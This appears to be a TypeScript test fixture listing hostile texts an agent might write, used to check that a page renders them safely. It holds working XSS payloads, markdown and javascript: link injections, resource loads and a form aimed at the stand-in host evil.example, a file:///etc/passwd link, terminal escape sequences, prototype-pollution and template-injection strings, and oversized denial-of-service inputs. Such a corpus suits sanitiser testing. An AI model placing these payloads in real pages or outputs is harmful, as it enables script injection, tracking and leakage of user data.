// Texts that an agent can write, and that a page could take for something else than text. A script
// that runs sets `hacked`, and everything that loads asks the host evil.example.

const host = 'https://evil.example';
const set = 'window.hacked=1';
const loading = `fetch('${host}/')`;

const elements = [
  `<script>${set}</script>`,
  `<script src="${host}/a.js"></script>`,
  `<img src=x onerror="${set}">`,
  `<img src="${host}/pixel.gif">`,
  `<svg onload="${set}"></svg>`,
  `<svg><script>${set}</script></svg>`,
  `<svg><use href="${host}/a.svg#x"/></svg>`,
  `<svg><animate onbegin="${set}" attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${set}"></iframe>`,
  `<iframe srcdoc="<script>parent.${set}</script>"></iframe>`,
  `<object data="${host}/a.swf"></object>`,
  `<embed src="${host}/a.swf">`,
  `<link rel=stylesheet href="${host}/a.css">`,
  `<link rel=prefetch href="${host}/next">`,
  `<meta http-equiv=refresh content="0;url=${host}/">`,
  `<base href="${host}/">`,
  `<form action="${host}/"><button>Sign in</button></form>`,
  `<body onload="${set}">`,
  `<details open ontoggle="${set}">`,
  `<input autofocus onfocus="${set}">`,
  `<video src="${host}/a.mp4" autoplay></video>`,
  `<audio src=x onerror="${set}"></audio>`,
  `<math><mtext><img src=x onerror="${set}"></mtext></math>`,
  `<style>@import url(${host}/a.css);</style>`,
  `<div style="background:url(${host}/a.png)">x</div>`,
  `<a href="javascript:${set}">click</a>`,
  `<template><img src=x onerror="${set}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
  `<!--><img src=x onerror="${set}">-->`,
  `<custom-element onclick="${set}">x</custom-element>`,
];

const markdown = [
  `[click](javascript:${set})`,
  `[click](JaVaScRiPt:${set})`,
  `[click](java\tscript:${set})`,
  `[click]( javascript:${set})`,
  `[click](data:text/html,<script>${set}</script>)`,
  `[click](vbscript:${set})`,
  `[click](blob:${host}/a)`,
  `[click](file:///etc/passwd)`,
  `[x]: javascript:${set}\n\n[x]`,
  `<javascript:${set}>`,
  `![pixel](${host}/pixel.gif)`,
  `![pixel](javascript:${set})`,
  `![x][y]\n\n[y]: ${host}/pixel.gif "onerror=${set}"`,
  `[a](${host}/"onmouseover="${set})`,
  `\`\`\`html\n<script>${set}</script>\n\`\`\``,
  `| <img src=x onerror="${set}"> |\n|---|\n| <script>${set}</script> |`,
  `- [x] <img src=x onerror="${set}">`,
  `> <iframe src="${host}"></iframe>`,
  `${'>'.repeat(2_000)} deep`,
  `${'- '.repeat(1_000)}deep`,
  '['.repeat(20_000),
  '*a_'.repeat(10_000),
];

const characters = [
  '\u202eevil\u2066text\u2069',
  '\u0000\u0007\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b[2J\u001b[H'.repeat(10_000),
  `{"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}`,
  `\${${loading}} {{${loading}}} <%= ${loading} %>`,
  'a\u0301'.repeat(5_000),
  '\ufdfd'.repeat(500),
  'x'.repeat(300_000),
];

export const hostileTexts: readonly string[] = [...elements, ...markdown, ...characters];
